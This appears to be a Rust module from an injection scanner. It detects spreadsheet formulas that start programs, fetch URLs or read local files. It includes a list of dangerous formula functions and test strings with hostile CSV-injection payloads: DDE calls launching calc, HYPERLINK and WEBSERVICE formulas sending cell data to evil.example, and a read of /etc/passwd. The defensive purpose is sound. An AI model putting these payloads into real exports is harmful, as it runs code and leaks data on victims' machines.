//! Formulas: would a spreadsheet reach outside when the text becomes a cell?
//!
//! `=SUM(A1:A9)` computes; exports are full of it. Starting a program, fetching, and reading another file are what acts.

use super::marks::{self, Cursor, Group};
use super::{Hit, Text, prose};
use crate::bytes;
use crate::decision::Class;

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    let lower = text.lower;
    let exchanges = text.bytes.has(b'|') && text.bytes.has(b'!');
    let reads = text.bytes.has(b'\'') && memchr::memmem::find(lower, b"'file:").is_some();
    if !exchanges && !reads && !text.marks.has(Group::Formulas) {
        return None;
    }
    let mut calls = Cursor::new(Group::Formulas, text.marks);
    let starts = std::iter::once(0).chain(cells(lower));
    let mut skipped = 0;
    for at in starts {
        // What a run of quotes and blanks leads to was looked at from its start.
        if at < skipped {
            continue;
        }
        let window = lower.get(at..).unwrap_or_default();
        let window = window.get(..512).unwrap_or(window);
        let blanks = window.iter().take_while(|b| matches!(b, b'\t' | b'\r' | b' ' | b'"' | b'\'')).count();
        skipped = at + blanks;
        let Some((b'=' | b'+' | b'-' | b'@', body)) = window.get(blanks..).and_then(<[u8]>::split_first)
        else {
            continue;
        };
        // A rule drawn with signs, the mark of a program in its log; a point of a list.
        if body.starts_with(b"=") || body.starts_with(b" ") && prose::is_told(line(text.raw, skipped + 1)) {
            continue;
        }
        if !text.spend(30) {
            return None;
        }
        let body = body.get(..memchr::memchr(b'\n', body).unwrap_or(body.len())).unwrap_or_default();
        let start = skipped + 1;
        if body.starts_with(b"'file:")
            || exchanges && exchange(body)
            || calls.within(lower, start, start + body.len()) && calls_something(text, body)
        {
            return Some(Hit {
                class: Class::Formula,
                at,
                why: "a formula that starts, fetches or reads something".into(),
            });
        }
    }
    None
}

fn line(text: &[u8], from: usize) -> &[u8] {
    let rest = text.get(from..).unwrap_or_default();
    let near = rest.get(..512).unwrap_or(rest);
    near.split(|b| *b == b'\n').next().unwrap_or_default()
}

/// Where a cell may begin: behind the ends of lines and of cells. What a comma or a tab ends is a cell only in a table, and
/// in a table nobody begins one with the sign of a formula.
fn cells(lower: &[u8]) -> impl Iterator<Item = usize> {
    let mut from = 0;
    let ends = std::iter::from_fn(move || {
        let is = |b| (b == b'\n') | (b == b';') | (b == b'"') | (b == b',') | (b == b'\t');
        let at = from + bytes::position(lower.get(from..)?, is)?;
        from = at + 1;
        Some(at)
    });
    ends.filter(|at| !matches!(lower.get(*at), Some(b',' | b'\t')) || lower.get(at + 1) == Some(&b'='))
        .map(|at| at + 1)
}

/// `cmd|'/C calc'!A0`: another program by dynamic data exchange.
fn exchange(body: &[u8]) -> bool {
    let bang = memchr::memmem::find(body, b"|'").or_else(|| memchr::memmem::find(body, b"|\\"));
    bang.is_some_and(|at| {
        body.get(at..).is_some_and(|rest| rest.contains(&b'!'))
            && at > 0
            && body.get(at - 1).is_some_and(u8::is_ascii_alphanumeric)
    })
}

fn calls_something(text: &Text<'_>, body: &[u8]) -> bool {
    text.spend(body.len())
        && marks::find(body, 0, Group::Formulas).any(|(at, _)| {
            at == 0
                || body.get(at - 1).is_some_and(|b| !b.is_ascii_alphanumeric() && !matches!(b, b'.' | b'_'))
        })
}

pub(super) const CALLS: &[&[u8]] = &[
    b"hyperlink(",
    b"webservice(",
    b"importxml(",
    b"importdata(",
    b"importhtml(",
    b"importfeed(",
    b"importrange(",
    b"image(",
    b"filterxml(",
    b"dde(",
    b"ddeauto ",
    b"exec(",
    b"call(",
    b"register.id(",
    b"register(",
    b"rtd(",
    b"formula(",
    b"indirect(\"'file:",
    b"encodeurl(",
    b"cmd|",
    b"shell(",
    b"sql.request(",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::sample;

    #[test]
    fn cells_that_reach_outside() {
        for text in [
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://evil.example/\"&A1)",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=cmd|'/C notepad'!A1",
            "Ann\n=cmd|'/C calc'!A0,7",
            "=1+IMPORTXML(\"http://evil.example\",\"//a\")",
            "='file:///etc/passwd'#$passwd.A1",
            "\"=cmd|'/C calc'!A0\"",
            "x,=WEBSERVICE(\"http://evil.example/\"&A1)",
            "a\t=HYPERLINK(\"http://evil.example/\"&B1)",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn cells_that_compute_and_lists() {
        for text in [
            "=SUM(A1:A9)",
            "=IF(E4>100,\"over\",\"ok\")",
            "-5",
            "+49 7254 0001",
            "- milk, - eggs",
            "@ann thanks for the image (nice)",
            "=VLOOKUP(A2,Prices!A:C,3,FALSE)",
            "-- ",
            "+1 call (please)",
            "x = f(a, -call(b))",
            "log:\n==17== call(x)",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
